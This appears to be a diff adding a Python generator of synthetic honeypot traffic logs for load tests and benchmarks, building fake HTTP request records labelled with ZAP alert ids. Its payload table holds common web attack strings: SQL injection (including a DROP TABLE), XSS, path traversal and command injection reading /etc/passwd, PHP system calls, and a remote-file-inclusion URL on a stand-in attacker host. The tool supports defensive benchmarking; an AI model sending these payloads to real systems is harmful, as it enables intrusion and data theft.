@@ -0,0 +1,230 @@
+from concurrent.futures import ProcessPoolExecutor
+from email.utils import formatdate
+import os
+from os import path
+import random
+import string
+
+from src.data.DataFaker import write_records
+from src.transformation.ZAPIDTransformer import get_zap_lookup
+
+# Payloads used for attack requests, chosen by keywords in the ZAP alert name.
+ATTACK_PAYLOADS = {
+    'sql': ["' OR '1'='1", "1; DROP TABLE users --", "1' UNION SELECT null,version() --", "1 AND SLEEP(5)"],
+    'cross site scripting': ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"],
+    'path traversal': ["../../../../etc/passwd", "..\\..\\..\\windows\\system.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"],
+    'file inclusion': ["http://www.google.com/", "https://evil.example/shell.txt?"],
+    'command injection': [";cat /etc/passwd", "|ping -c 10 127.0.0.1", "$(sleep 5)"],
+    'code injection': ["phpinfo();", "system('id');"],
+    'crlf': ["%0d%0aSet-Cookie: crlf=injection", "\r\nX-Injected: 1"],
+    'ldap': ["*)(uid=*))(|(uid=*", "admin)(&)"],
+    'xpath': ["' or '1'='1", "']|//*|//*['"],
+}
+BENIGN_PATHS = ['/', '/index.php', '/about.html', '/products.php', '/contact.php', '/search.php',
+                '/static/css/main.css', '/static/js/app.js', '/images/logo.png', '/login.php', '/blog/']
+BENIGN_PARAMS = ['id', 'page', 'q', 'sort', 'category', 'lang']
+USER_AGENTS = {
+    'benign': ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:71.0) Gecko/20100101 Firefox/71.0",
+               "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36"],
+    'attack': ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:71.0) Gecko/20100101 Firefox/71.0",
+               "python-requests/2.20.1"]
+}
+EMULATORS = ['rfi', 'sqli', 'lfi', 'xss', 'cmd_exec', 'php_code_injection', 'php_object_injection', 'crlf']
+
+
+class SyntheticTrafficGenerator():
+    """Generates synthetic honeypot traffic in our JSON / JSON Lines format for load tests
+    and benchmarks.
+
+    The output is written incrementally and split into fixed-size shards, each generated
+    from its own seed. Thus, the result only depends on the parameters and the seed, not
+    on the number of worker processes.
+    """
+
+    def __init__(self, proj_root, n_requests, connection_length=3, attack_mix=None, attack_ratio=0.5,
+                 seed=0, shard_size=100000, start_timestamp=1603827338):
+        """Constructor.
+
+        Args:
+            proj_root (str): path to project root (to read the ZAP ids)
+            n_requests (int): number of requests to generate
+            connection_length (int or dict, optional): distribution of the number of requests per
+                connection. Either a mean for a geometric distribution or a dict `{length: weight}`. Defaults to 3.
+            attack_mix (dict, optional): weights per ZAP id `{zap_id: weight}` for attack requests.
+                Defaults to None (all ids of `references/ZAP_ids.csv`, equally weighted).
+            attack_ratio (float, optional): share of connections that are attacks. Defaults to 0.5.
+            seed (int, optional): random seed. Defaults to 0.
+            shard_size (int, optional): number of requests per independently seeded shard. Defaults to 100000.
+            start_timestamp (int, optional): timestamp of the first request. Defaults to 1603827338.
+        """
+        zapper = get_zap_lookup(proj_root)
+        if attack_mix is None:
+            attack_mix = {zap_id: 1 for zap_id in zapper.df.index}
+        self.attack_ids = [str(zap_id) for zap_id in attack_mix]
+        self.attack_weights = list(attack_mix.values())
+        self.attack_alerts = {zap_id: zapper.id_to_rule(zap_id).lower() for zap_id in self.attack_ids}
+
+        if isinstance(connection_length, dict):
+            self.connection_lengths = [int(length) for length in connection_length]
+            self.connection_weights = list(connection_length.values())
+            self.mean_connection_length = None
+        else:
+            self.connection_lengths = None
+            self.mean_connection_length = max(1.0, float(connection_length))
+
+        self.n_requests = n_requests
+        self.attack_ratio = attack_ratio
+        self.seed = seed
+        self.shard_size = shard_size
+        self.start_timestamp = start_timestamp
+
+    @property
+    def n_shards(self):
+        return (self.n_requests + self.shard_size - 1) // self.shard_size
+
+    def _connection_length(self, rng):
+        if self.connection_lengths is not None:
+            return rng.choices(self.connection_lengths, weights=self.connection_weights)[0]
+        # geometric distribution with the given mean
+        length = 1
+        while rng.random() > 1.0 / self.mean_connection_length:
+            length += 1
+        return length
+
+    def _payload(self, rng, zap_id):
+        alert = self.attack_alerts[zap_id]
+        for keyword, payloads in ATTACK_PAYLOADS.items():
+            if keyword in alert:
+                return rng.choice(payloads)
+        return ''.join(rng.choice(string.ascii_letters + string.digits + "'\"<>;()") for _ in range(rng.randint(4, 24)))
+
+    def _request(self, rng, id, connection_id, zap_id, ip):
+        is_attack = zap_id is not None
+        method = rng.choice(['GET', 'GET', 'GET', 'POST'])
+        value = self._payload(rng, zap_id) if is_attack else rng.choice([str(rng.randint(1, 500)), rng.choice(string.ascii_lowercase) * rng.randint(1, 8)])
+        uri = rng.choice(BENIGN_PATHS)
+        body = ""
+        if method == 'GET':
+            if is_attack or rng.random() < 0.4:
+                uri += "?" + rng.choice(BENIGN_PARAMS) + "=" + value
+        else:
+            body = {rng.choice(BENIGN_PARAMS): value}
+
+        header = {
+            "Host": "snare",
+            "User-Agent": rng.choice(USER_AGENTS['attack' if is_attack else 'benign']),
+            "Accept": rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"]),
+            "Connection": "keep-alive"
+        }
+        if method == 'POST':
+            header["Content-Type"] = "application/x-www-form-urlencoded"
+            header["Content-Length"] = str(sum(len(k) + len(v) + 1 for k, v in body.items()))
+        if is_attack:
+            header["X-ZAP-Scan-ID"] = zap_id
+
+        timestamp = self.start_timestamp + id // 10
+        return {
+            "id": id,
+            "timestamp": timestamp,
+            "connection-id": connection_id,
+            "request": {
+                "method": method,
+                "uri": uri,
+                "protocol": "HTTP/1.1",
+                "body": body
+            },
+            "header": header,
+            "sender": {
+                "ip": ip
+            },
+            "honeypot": {
+                "used-emulator": rng.choice(EMULATORS) if is_attack else "none",
+                "response-hash": "%0128x" % rng.getrandbits(512),
+                "response-size": rng.randint(1000, 50000),
+                "response-status-code": rng.choice([500, 404, 403, 200, 200, 200, 301]),
+                "response-header": {
+                    "Server": "nginx",
+                    "Date": formatdate(timeval=timestamp, localtime=False, usegmt=True),
+                    "Content-Type": "text/html; charset=utf-8",
+                    "X-Powered-By": "PHP/7.4.11",
+                    "Expires": "Thu, 19 Nov 1981 08:52:00 GMT",
+                    "Cache-Control": "no-store, no-cache, must-revalidate",
+                    "Pragma": "no-cache"
+                }
+            }
+        }
+
+    def iter_shard(self, shard):
+        """Generates the requests of a single shard. Connections never span two shards.
+
+        Args:
+            shard (int): index of the shard
+
+        Yields:
+            dict: request in our format
+        """
+        rng = random.Random(f"{self.seed}-{shard}")
+        first = shard * self.shard_size
+        last = min(first + self.shard_size, self.n_requests)
+        id = first
+        connection_id = first
+        while id < last:
+            length = min(self._connection_length(rng), last - id)
+            zap_id = rng.choices(self.attack_ids, weights=self.attack_weights)[0] if rng.random() < self.attack_ratio else None
+            ip = f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+            for _ in range(length):
+                yield self._request(rng, id, connection_id, zap_id, ip)
+                id += 1
+            connection_id += 1
+
+    def write_shard(self, shard, file_path):
+        """Writes a single shard as JSON Lines.
+
+        Args:
+            shard (int): index of the shard
+            file_path (str): output path
+
+        Returns:
+            str: output path
+        """
+        with open(file_path, "w") as f:
+            write_records(self.iter_shard(shard), f, json_lines=True)
+        return file_path
+
+    def write(self, file_path, json_lines=None, n_workers=1):
+        """Generates all requests and writes them to a file.
+
+        Args:
+            file_path (str): output path
+            json_lines (bool, optional): write JSON Lines instead of a JSON array. Defaults to None (by file extension).
+            n_workers (int, optional): number of worker processes generating shards. Defaults to 1.
+        """
+        if json_lines is None:
+            json_lines = path.splitext(file_path)[1].lower() in ['.jsonl', '.ndjson']
+
+        part_paths = [f"{file_path}.part{shard}" for shard in range(self.n_shards)]
+        if n_workers > 1:
+            with ProcessPoolExecutor(max_workers=n_workers) as executor:
+                list(executor.map(self.write_shard, range(self.n_shards), part_paths))
+        else:
+            for shard, part_path in enumerate(part_paths):
+                self.write_shard(shard, part_path)
+
+        # concatenate the shards in order
+        with open(file_path, "w") as f:
+            if not json_lines:
+                f.write("[")
+            first = True
+            for part_path in part_paths:
+                with open(part_path, "r") as part:
+                    for line in part:
+                        if json_lines:
+                            f.write(line)
+                            continue
+                        if not first:
+                            f.write(", ")
+                        f.write(line.rstrip("\n"))
+                        first = False
+                os.remove(part_path)
+            if not json_lines:
+                f.write("]")